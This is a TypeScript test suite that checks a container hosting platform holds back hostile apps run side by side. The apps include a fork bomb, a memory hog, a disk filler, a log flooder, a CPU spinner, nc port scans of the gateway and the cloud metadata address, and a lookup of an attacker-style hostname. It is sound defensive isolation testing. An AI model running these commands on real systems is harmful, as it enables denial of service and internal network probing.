/** Apps that mean harm, beside each other: each is held by its limits, while a neighbour on the same engine goes on answering. */
import assert from 'node:assert/strict';
import { stat } from 'node:fs/promises';
import os from 'node:os';
import { after, before, suite, test } from 'node:test';
import { setTimeout as wait } from 'node:timers/promises';
import { inspectSettled } from '../../../workers/adapters/docker-end.ts';
import type { StartedContainer } from '../../../workers/adapters/docker-types.ts';
import { openTestDocker, startRequest } from '../../support/docker.ts';
import { ensureTestImages } from '../../support/images.ts';

const { api, docker, instance, imageOf, inside, cleanUp } = openTestDocker();
const mib = 1024 * 1024;
const answersMsMax = 5_000;
const untilMsMax = 60_000;

let count = 0;
async function start(
  script: string,
  changes: Parameters<typeof startRequest>[2] = {},
  ...instructions: string[]
) {
  count += 1;
  const launchId = `${instance}-${count}`;
  const command = `CMD ${JSON.stringify(['sh', '-c', script])}`;
  const image = await imageOf(`hostile-${count}`, ...instructions, command);
  const started = await docker.startContainer(startRequest(launchId, image, changes));
  return { ...started, launchId, run: (line: string) => inside(started.containerId, 'sh', '-c', line) };
}

async function until<T>(look: () => Promise<T | undefined>): Promise<T> {
  const deadline = performance.now() + untilMsMax;
  for (;;) {
    const seen = await look();
    if (seen !== undefined) return seen;
    assert.ok(performance.now() < deadline, 'it never came');
    await wait(50);
  }
}

suite('while apps do harm, all at once', { concurrency: true }, () => {
  let neighbour: StartedContainer;
  const serve = 'echo well >/tmp/index.html; exec httpd -f -p 8080 -h /tmp';
  /** Several times, because it may be slow only now and then. */
  const neighbourAnswers = async () => {
    for (let number = 0; number < 5; number += 1) {
      const signal = AbortSignal.timeout(answersMsMax);
      const answer = await fetch(`http://${neighbour.host}:${neighbour.hostPort}/`, { signal });
      assert.equal(await answer.text(), 'well\n');
    }
  };
  before(async () => {
    await ensureTestImages();
    neighbour = await start(serve);
    const signal = new AbortController().signal;
    await docker.waitUntilReady({ ...neighbour, timeoutMs: 20_000, signal });
  });
  after(cleanUp);

  test('a fork bomb ends at its number of processes', async () => {
    const bomb = await start('bomb() { bomb | bomb & bomb; }; (bomb) & exec sleep 1000');
    await neighbourAnswers();
    await until(async () => {
      const said = await docker.lastLines(bomb.launchId);
      return said.some(line => line.includes("can't fork")) ? true : undefined;
    });
    const { pids_stats: pids } = await api.getContainer(bomb.containerId).stats({ stream: false });
    assert.ok((pids?.current ?? 99) <= 32, `${pids?.current} processes`);
    await neighbourAnswers();
    await docker.removeLaunch(bomb.launchId);
  });

  test('a memory hog is killed, and nobody else is', async () => {
    const hog = await start('exec tail /dev/zero');
    await neighbourAnswers();
    const state = await until(async () => {
      const { State } = await inspectSettled(api.getContainer(hog.containerId));
      return State.Running ? undefined : State;
    });
    assert.deepEqual([state.OOMKilled, state.ExitCode], [true, 137]);
    await docker.removeLaunch(hog.launchId);
  });

  test('a disk filler fills its own memory, and nothing on the disk', async () => {
    const filler = await start('exec sleep 1000', {}, 'VOLUME /data');
    for (const folder of ['/tmp', '/run', '/var/tmp', '/data']) {
      const said = await filler.run(`dd if=/dev/zero of=${folder}/x bs=1M count=100 2>&1; rm -f ${folder}/x`);
      assert.match(said, /No space left on device/, folder);
    }
    for (const folder of ['/', '/etc', '/bin']) {
      assert.match(
        await filler.run(`dd if=/dev/zero of=${folder}/x bs=1M count=1 2>&1`),
        /Read-only/,
        folder,
      );
    }
    await neighbourAnswers();
    const sized = await api.getContainer(filler.containerId).inspect({ size: true } as object);
    const { SizeRw: written } = sized as typeof sized & { SizeRw?: number };
    assert.ok((written ?? 0) < 100_000, `${written} bytes on the disk`);
    await docker.removeLaunch(filler.launchId);
  });

  test('a log flooder keeps no more than its share, and its last words', async () => {
    // A gigabyte in long lines, then a sentence.
    const line = 'L=$(head -c 8000 /dev/zero | tr "\\0" x)';
    const flood = await start(`${line}; yes $L | head -c 1073741824; echo; echo the end; exec sleep 1000`);
    await neighbourAnswers();
    await until(async () => {
      await neighbourAnswers();
      await wait(500);
      return (await docker.lastLines(flood.launchId)).at(-1) === 'the end' ? true : undefined;
    });
    await neighbourAnswers();
    const { LogPath: file } = await api.getContainer(flood.containerId).inspect();
    const sizes = await Promise.all(
      [file, `${file}.1`].map(async each => (await stat(each).catch(() => ({ size: 0 }))).size),
    );
    const bytes = sizes.reduce((sum, size) => sum + size, 0);
    assert.ok(bytes > 0 && bytes <= 21 * mib, `${bytes} bytes of log`);
    assert.deepEqual((await docker.lastLines(flood.launchId)).at(-1), 'the end');
    await docker.removeLaunch(flood.launchId);
  });

  test('a CPU spinner gets its share', async () => {
    const spinner = await start('for n in 1 2 3 4; do while :; do :; done & done; wait');
    const cpu = async () => {
      const { cpu_stats: stats } = await api.getContainer(spinner.containerId).stats({ stream: false });
      return stats.cpu_usage.total_usage;
    };
    const [first, begun] = [await cpu(), performance.now()];
    await neighbourAnswers();
    await wait(1_500);
    const cores = ((await cpu()) - first) / 1e6 / (performance.now() - begun);
    assert.ok(cores < 0.8, `${cores} cores`);
    await docker.removeLaunch(spinner.launchId);
  });

  test('a port scanner finds nobody: not the host, not its neighbour, not the metadata, not the world', async () => {
    const scanner = await start(serve, { pidsMax: 256 });
    const { NetworkSettings: its } = await api.getContainer(scanner.containerId).inspect();
    const gateway = Object.values(its.Networks)[0]?.Gateway ?? '';
    const own = Object.values(os.networkInterfaces())
      .flatMap(each => each ?? [])
      .filter(({ family, internal }) => family === 'IPv4' && !internal)
      .map(({ address }) => address);
    const targets = [gateway, ...own.slice(0, 3), neighbour.host, '169.254.169.254', '1.1.1.1'];
    const tries = [...new Set(targets)].flatMap(address =>
      [22, 80, 2375, 5432, 8080].map(
        port => `(nc -w 1 ${address} ${port} </dev/null && echo open ${address} ${port}) &`,
      ),
    );
    const said = await scanner.run(`${tries.join(' ')} wait; echo done`);
    assert.match(said, /done/);
    assert.doesNotMatch(said, /can't fork|open \d/);
    // It would see what is open: there is itself.
    await until(async () => {
      const itself = await scanner.run('nc -w 1 127.0.0.1 8080 </dev/null && echo open');
      return itself.includes('open') ? true : undefined;
    });
    await neighbourAnswers();
    await docker.removeLaunch(scanner.launchId);
  });

  test('names that are asked for leave by nobody, and the answer is no within seconds', async () => {
    const asker = await start('exec sleep 1000');
    const begun = performance.now();
    assert.match(await asker.run('ping -c 1 secret.attacker.example 2>&1'), /bad address/);
    assert.ok(performance.now() - begun < answersMsMax, 'it was waited for too long');
    const { HostConfig } = await api.getContainer(asker.containerId).inspect();
    assert.deepEqual(HostConfig.Dns, ['127.0.0.1']);
    await docker.removeLaunch(asker.launchId);
  });

  test('an app that ends well, or will not end, is gone when it is removed', async () => {
    const deaf = await start("trap '' TERM; while :; do sleep 1; done");
    await docker.removeLaunch(deaf.launchId);
    const left = (await docker.listLaunches()).map(({ launchId }) => launchId);
    assert.ok(!left.includes(deaf.launchId));
    await neighbourAnswers();
  });
});
